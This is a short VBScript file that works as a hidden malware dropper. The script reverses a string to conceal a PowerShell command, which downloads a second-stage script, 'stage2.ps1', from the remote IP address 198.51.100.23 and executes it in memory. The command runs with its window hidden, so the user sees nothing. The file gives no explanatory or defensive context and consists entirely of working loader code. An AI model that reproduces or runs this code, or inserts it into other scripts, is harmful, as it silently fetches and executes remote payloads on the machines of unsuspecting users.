Dim p
p = StrReverse("""xei | 1sp.2egats/32.001.15.891//:ptth rwi"" c- neddih w- llehsrewop")
CreateObject("WScript.Shell").Run p, 0
